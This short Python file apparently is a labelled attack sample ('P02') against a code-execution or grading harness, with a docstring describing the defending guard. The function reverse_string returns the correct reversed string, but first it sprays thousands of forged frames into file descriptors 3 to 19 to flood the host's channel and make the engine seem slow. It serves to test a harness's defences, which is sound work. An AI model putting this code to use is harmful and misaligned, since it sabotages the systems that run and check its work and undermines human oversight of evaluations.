"""Send thousands of tiny replies before the right one.

attack: P02 keep the host busy until the engine seems slow
guard: a random id for each call, frames are counted
"""

import os


def reverse_string(s):
    for fd in range(3, 20):
        try:
            os.write(fd, (b"\0\0\0\2V{}") * 5000)
        except OSError:
            pass
    return s[::-1]
